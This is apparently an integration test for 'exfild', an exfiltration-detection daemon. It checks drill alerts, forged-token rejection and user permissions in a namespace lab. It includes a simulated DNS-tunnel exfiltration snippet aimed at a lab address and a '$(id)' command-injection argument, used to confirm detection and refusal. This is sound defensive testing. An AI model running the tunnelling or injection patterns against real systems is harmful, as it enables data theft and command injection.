#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""drill.py --exfild PROGRAM: a drill comes back as an alert, and nobody else can make one.

A client, a gateway and an outside world in network namespaces (tests/lab/ns.sh); the daemon listens on the gateway's inside
interface with a control socket, a file sink and a redis-server of its own. exfilctl prints a request, real dig, curl and
ping run it, over IPv4 and IPv6, and its alert must come out of exfilctl and into both sinks as `exfild.mode: drill`, once a
drill; a sink that is gone is named. What is forged, changed, of another kind or of an earlier daemon is no drill; stolen data behind a token that is right is a theft as ever; a user without the right
gets no request. Needs root, iproute2, redis-server, dig, curl, ping."""
import json
import os
import select
import shutil
import signal
import subprocess
import sys
import tempfile
import time

import harness

NS = os.path.join(harness.LAB, "ns.sh")
DNS, WEB = "203.0.113.21", "203.0.113.20"
KINDS = {"dns": ("DNS question", DNS, "53"), "http": ("HTTP request", WEB, "80"), "icmp": ("ping", "203.0.113.22", None)}
SIX = {"icmp": "2001:db8:20::20", "http": "2001:db8:20::21"}
DRILLS = len(KINDS) + len(SIX)


class Lab:
    """Namespaces, the services outside, the daemon in the gateway."""

    def __init__(self, program, folder):
        self.program, self.folder = program, folder
        self.ctl = os.path.join(os.path.dirname(os.path.abspath(program)), "exfilctl")
        self.prefix = f"Q{os.getpid() % 100000}"
        self.environment = dict(os.environ, XFL_PREFIX=self.prefix)
        self.socket = os.path.join(folder, "control.sock")
        self.sink = os.path.join(folder, "alerts.json")
        self.redis = os.path.join(folder, "redis.sock")
        self.children = []
        self.daemon = self.server = None

    def ns(self, where, *command):
        return ["ip", "netns", "exec", f"{self.prefix}-{where}", *map(str, command)]

    def up(self):
        subprocess.run([NS, "up"], env=self.environment, check=True)
        os.mkdir(os.path.join(self.folder, "web"))
        web = [sys.executable, "-m", "http.server", "--directory", os.path.join(self.folder, "web"), "80", "--bind"]
        for command in ([sys.executable, os.path.join(harness.LAB, "dnsd.py"), "--listen", DNS], [*web, WEB],
                        [*web, SIX["http"]]):
            self.children.append(subprocess.Popen(self.ns("srv", *command), stdout=subprocess.DEVNULL,
                                                  stderr=subprocess.DEVNULL))
        self.server = subprocess.Popen(["redis-server", "--port", "0", "--unixsocket", self.redis, "--save", "", "--dir",
                                        self.folder], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.children.append(self.server)
        end = time.monotonic() + 20
        while time.monotonic() < end and self.stream() is None:
            time.sleep(0.1)

    def stream(self):
        """The drills in the stream of Redis, by their ids; None: it does not answer."""
        done = subprocess.run(["redis-cli", "-s", self.redis, "--raw", "XRANGE", "exfild:alerts", "-", "+"],
                              stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=20, check=False)
        alerts = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
        return None if done.returncode else [alert["exfild"]["evidence"]["object"] for alert in alerts
                                             if alert["exfild"]["mode"] == "drill"]

    def start(self):
        """It answers before its capture listens: what passes in between is not seen."""
        with open(os.path.join(self.folder, "daemon.log"), "ab") as log:
            before = self.log().count(": listening")
            self.daemon = subprocess.Popen(
                self.ns("gw", self.program, "-i", "gin", "--set", f"control.socket={self.socket}", "--set",
                        f"sinks.file.path={self.sink}", "--set", f"redis.url=unix://{self.redis}", "--set",
                        "redis.username=", "--set", "redis.password_file=", "--set", "alerts.minimum=high", "--set",
                        "metrics.listen=", "--set", "state.directory=", "--set", f"evidence.directory={self.folder}/evidence", "--set", f"spool.directory={self.folder}/spool"),
                stdout=subprocess.DEVNULL, stderr=log)
        end = time.monotonic() + 30
        while time.monotonic() < end:
            if self.log().count(": listening") > before and self.ask("status").returncode == 0:
                return True
            time.sleep(0.1)
        return False

    def stop(self):
        self.daemon.send_signal(signal.SIGTERM)
        try:
            self.daemon.wait(20)
        except subprocess.TimeoutExpired:
            harness.kill_all(self.daemon)

    def down(self):
        for child in self.children:
            child.kill()
            child.wait()
        if self.daemon and self.daemon.poll() is None:
            harness.kill_all(self.daemon)
        subprocess.run([NS, "down"], env=self.environment, check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def log(self):
        with open(os.path.join(self.folder, "daemon.log"), encoding="utf-8", errors="replace") as stream:
            return stream.read()

    def ask(self, *arguments, **options):
        return subprocess.run([self.ctl, "-s", self.socket, *arguments], stdin=subprocess.DEVNULL, capture_output=True,
                              text=True, timeout=60, check=False, **options)

    def client(self, command):
        """As an admin would: the line goes to a shell on the client."""
        return subprocess.run(self.ns("cli", "sh", "-c", command), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, text=True, timeout=60, check=False)

    def request(self, kind, *options):
        answer = self.ask("--json", "drill", kind, "--to", KINDS[kind][1], *options)
        return json.loads(answer.stdout)["result"] if answer.returncode == 0 else {}

    def alerts(self):
        if not os.path.exists(self.sink):
            return []
        with open(self.sink, encoding="utf-8") as stream:
            return [json.loads(line) for line in stream if line.endswith("\n")]

    def drills(self):
        return [alert for alert in self.alerts() if alert["rule"]["id"] == "drill"]


def lines_of(child, seconds):
    """What it says within that time, a line at a time."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        ready, _, _ = select.select([child.stdout], [], [], end - time.monotonic())
        line = child.stdout.readline() if ready else b""
        if not line:
            return
        yield line.decode()


def one_drill(lab, check, kind, place=None):
    """Printed, run, waited for: the whole way that an admin goes."""
    said, usual, port = KINDS[kind]
    place = place or usual
    child = subprocess.Popen([lab.ctl, "-s", lab.socket, "--json", "drill", kind, "--to", place, "--wait", "30"],
                             stdout=subprocess.PIPE, bufsize=0)
    lines = lines_of(child, 40)
    result = json.loads(next(lines, "{}")).get("result", {})
    token = result.get("drill", "")
    if not check(len(token) == 30 and token in result.get("command", "") and result.get("kind") == kind,
                 f"{kind}: a request is printed", result):
        child.kill()
        child.wait()
        return
    time.sleep(0.3)
    ran = lab.client(result["command"])
    came = json.loads(next(lines, "{}"))
    status = child.wait(40)
    check(status == 0 and came.get("came") is True, f"{kind}: exfilctl says that the alert came", (status, came, ran.stdout))
    check(0 < came.get("seconds", -1) < 20, f"{kind}: and after how long", came.get("seconds"))
    alert = came.get("alert", {})
    own = alert.get("exfild", {})
    check(own.get("mode") == "drill" and own.get("evidence", {}).get("object") == token, f"{kind}: it is that drill", own)
    check(alert.get("event", {}).get("risk_score") == 0, f"{kind}: it counts for nobody's risk", alert.get("event"))
    check(alert.get("event", {}).get("severity") == 73, f"{kind}: as severe as the least that is sent", alert.get("event"))
    check(said in alert.get("message", ""), f"{kind}: the sentence says what it was", alert.get("message"))
    ends = (alert.get("source", {}).get("ip"), alert.get("destination", {}).get("ip"))
    clients = ("fd00:1::10", "fd00:1::11") if ":" in place else ("10.20.1.10",)
    check(ends[0] in clients and ends[1] == place, f"{kind}: who and whom", ends)
    check(came.get("taken") is True and came.get("sinks") == {"file": True, "redis": True}, f"{kind}: both sinks took it", came)
    check(lab.stream().count(token) == 1, f"{kind}: Redis has it once", lab.stream())
    check("silence" not in own, f"{kind}: nothing to except", own.get("silence"))
    if port:
        check(str(alert.get("destination", {}).get("port")) == port, f"{kind}: port {port}", alert.get("destination"))


def in_sink(lab, check):
    end = time.monotonic() + 10
    while time.monotonic() < end and len(lab.drills()) < DRILLS:
        time.sleep(0.2)
    drills = lab.drills()
    check(len(drills) == DRILLS, "the sink has each of them once", [d["message"] for d in drills])
    check(all(d["exfild"]["mode"] == "drill" and d["exfild"]["revision"] == 1 for d in drills), "as drills", drills)
    log = lab.log()
    check(log.count(": drill: done") == DRILLS, "each was logged with the user", log[-800:])


def for_people(lab, check):
    """The text form, and a drill that nobody runs."""
    answer = lab.ask("drill", "dns", "--wait", "1")
    check(answer.returncode == 3, "a drill that nobody runs is status 3", answer)
    check("dig" in answer.stdout and "nslookup" in answer.stdout and "No alert came in 1 s" in answer.stdout,
          "the text says what to run and what it means", answer.stdout)
    for arguments, status in ((("drill",), 2), (("drill", "smoke"), 1), (("drill", "dns", "--to", "$(id)"), 1),
                              (("drill", "icmp", "--to", "-f"), 1), (("drill", "dns", "http"), 2)):
        answer = lab.ask(*arguments)
        check(answer.returncode == status and answer.stderr.startswith("exfilctl: "), f"{arguments}: refused", answer)
    os.chmod(lab.folder, 0o755)
    os.chmod(lab.socket, 0o666)
    denied = lab.ask("drill", "dns", user=65534, group=65534, extra_groups=[])
    check(denied.returncode == 1 and "example.com" not in denied.stdout, "a user without the right gets none", denied)


def flip(token, at):
    return token[:at] + format(int(token[at], 16) ^ 1, "x") + token[at + 1:]


def forged(lab, check):
    """Near misses: none of them is a drill."""
    before = len(lab.drills())
    dns, http, icmp = (lab.request(kind)["drill"] for kind in KINDS)
    ask = "dig +short +tries=1 +time=1 @%s %s-1.exfild-drill.example.com"
    get = "curl -s -o /dev/null -m 3 http://%s/exfild-drill/%s"
    echo = "ping -c 1 -W 1 -s %d -p %s 203.0.113.22"
    for at in range(0, 30, 7):
        lab.client(ask % (DNS, flip(dns, at)))
        lab.client(get % (WEB, flip(http, at)))
        lab.client(echo % (15, flip(icmp, at)))
    for command in (ask % (DNS, http), get % (WEB, dns), echo % (15, dns), echo % (56, icmp), ask % (DNS, dns[:-1]),
                    get % (WEB, http[:-1]), ask % (DNS, "0" * 30), echo % (15, "00")):
        lab.client(command)
    time.sleep(1.5)
    check(len(lab.drills()) == before, "what is forged, changed or of another kind is no drill",
          [d["message"] for d in lab.drills()[before:]])
    lab.client(ask % (DNS, dns.upper()))
    time.sleep(1.5)
    check(len(lab.drills()) == before + 1, "in capitals it is the same name", len(lab.drills()) - before)


THEFT = """
import os, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
for i in range(240):
    labels = ["%s-1", "exfild-drill", os.urandom(28).hex(), os.urandom(28).hex(), "x", "example", "test"]
    name = b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\\0"
    s.sendto(struct.pack(">HHHHHH", i + 1, 256, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1), ("%s", 53))
    try:
        s.recvfrom(4096)
    except OSError:
        pass
"""


def theft(lab, check):
    """A token that is right excuses nothing: the data behind it is seen as in any other name."""
    token = lab.request("dns")["drill"]
    subprocess.run(lab.ns("cli", sys.executable, "-c", THEFT % (token, DNS)), timeout=120, check=False)
    end = time.monotonic() + 10
    found = []
    while time.monotonic() < end and not found:
        time.sleep(0.3)
        found = [a for a in lab.alerts() if a["rule"]["id"] == "dns_tunnel"]
    check(found and all(a["exfild"]["mode"] == "live" for a in found), "a theft behind a token is a theft",
          [a["message"] for a in lab.alerts()])
    check(found and all("drill" not in [link["rule"] for link in a["exfild"].get("chain", [])] for a in found),
          "and the drill is no stage of its story", found)


def other_daemon(lab, check):
    """The key lives as long as the daemon."""
    token = lab.request("http")["drill"]
    told = len(lab.drills())
    lab.stop()
    check(lab.daemon.returncode == 0, "the daemon ends well", lab.log()[-800:])
    check(len(lab.drills()) == told, "and tells no drill again, though three questions were one", len(lab.drills()) - told)
    check(lab.start(), "and starts again", lab.log()[-800:])
    lab.request("http")  # so that it looks at all
    before = len(lab.drills())
    lab.client(f"curl -s -o /dev/null -m 3 http://{WEB}/exfild-drill/{token}")
    time.sleep(1.5)
    check(len(lab.drills()) == before, "a drill of an earlier daemon is none", len(lab.drills()) - before)


def sink_is_gone(lab, check):
    """The alert comes, but not as far as Redis: that is no success."""
    lab.server.kill()
    lab.server.wait()
    child = subprocess.Popen([lab.ctl, "-s", lab.socket, "drill", "icmp", "--to", "203.0.113.22", "--wait", "20"],
                             stdout=subprocess.PIPE, text=True)
    command = next((line.strip() for line in child.stdout if line.startswith("  ping ")), "false")
    lab.client(command)
    said = child.communicate(timeout=60)[0]
    check(child.returncode == 3 and "redis has NOT taken it: " in said and "file has taken it" in said,
          "a sink that is gone is named", (child.returncode, said))


def main():
    options = harness.parser(__doc__).parse_args()
    if os.geteuid() != 0:
        harness.skip("network namespaces need root")
    for tool in ("ip", "dig", "curl", "ping", "ethtool", "redis-server", "redis-cli"):
        if not shutil.which(tool):
            harness.skip(f"{tool} is not installed")
    check = harness.Checks()
    with tempfile.TemporaryDirectory() as folder:
        lab = Lab(options.exfild, folder)
        try:
            lab.up()
            if check(lab.start(), "the daemon starts", lab.log()[-800:]):
                for kind in KINDS:
                    one_drill(lab, check, kind)
                for kind, place in SIX.items():
                    one_drill(lab, check, kind, place)
                in_sink(lab, check)
                for_people(lab, check)
                forged(lab, check)
                theft(lab, check)
                other_daemon(lab, check)
                sink_is_gone(lab, check)
                lab.stop()
                check("ERROR: " not in lab.log() and "runtime error" not in lab.log(), "no sanitizer spoke", lab.log()[-2000:])
        finally:
            lab.down()
    return check.end()


if __name__ == "__main__":
    sys.exit(main())
